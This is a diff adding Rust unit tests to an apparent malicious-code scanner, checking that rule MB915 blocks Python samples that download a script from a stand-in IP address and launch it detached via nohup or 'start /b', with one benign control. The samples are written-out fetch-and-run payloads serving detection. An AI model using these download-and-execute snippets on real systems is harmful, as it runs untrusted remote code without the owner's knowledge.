@@ -589,6 +589,60 @@ urllib.request.urlopen(patch, context=ctx)
     spared(src, "MB916");
 }
 
+// A download run through a quoted shell line (MB915)
+
+/// `'nohup "%s" "%s" ..' % (sys.executable, path)`: a tuple filling the format.
+#[test]
+fn download_run_by_a_percent_formatted_nohup_line() {
+    let src = r##"import os, sys, tempfile, urllib.request
+code = urllib.request.urlopen("http://198.51.100.66/s.py").read()
+path = os.path.join(tempfile.gettempdir(), ".x.py")
+with open(path, "wb") as fh:
+    fh.write(code)
+os.system('nohup "%s" "%s" >/dev/null 2>&1 &' % (sys.executable, path))
+"##;
+    caught(src, "MB915", Verdict::Blocked);
+}
+
+/// `f'nohup "{sys.executable}" "{path}" &'`.
+#[test]
+fn download_run_by_an_fstring_with_quotes() {
+    let src = r##"import os, sys, tempfile, urllib.request
+code = urllib.request.urlopen("http://198.51.100.66/s.py").read()
+path = os.path.join(tempfile.gettempdir(), ".x.py")
+with open(path, "wb") as fh:
+    fh.write(code)
+os.system(f'nohup "{sys.executable}" "{path}" &')
+"##;
+    caught(src, "MB915", Verdict::Blocked);
+}
+
+/// `start /b "" "%s" "%s"` through `os.popen`, the path a helper's return.
+#[test]
+fn download_returned_by_a_helper_started_detached() {
+    let src = r##"import os, sys, tempfile, requests
+def fetch(url):
+    path = os.path.join(tempfile.gettempdir(), "helper.py")
+    open(path, "wb").write(requests.get(url).content)
+    return path
+os.popen('start /b "" "%s" "%s"' % (sys.executable, fetch("http://198.51.100.66/h.py")))
+"##;
+    caught(src, "MB915", Verdict::Blocked);
+}
+
+/// Control: `python -m json.tool FILE` reads the downloaded file.
+#[test]
+fn downloaded_report_read_by_json_tool() {
+    let src = r##"import os, sys, tempfile, urllib.request
+data = urllib.request.urlopen("https://api.example.org/report.json").read()
+path = os.path.join(tempfile.gettempdir(), "report.json")
+with open(path, "wb") as fh:
+    fh.write(data)
+os.system('"%s" -m json.tool "%s"' % (sys.executable, path))
+"##;
+    spared(src, "MB915");
+}
+
 // Other applications' messages read (MB972, HIGH)
 
 /// `~/Library/Messages/chat.db` queried and written to CSV.
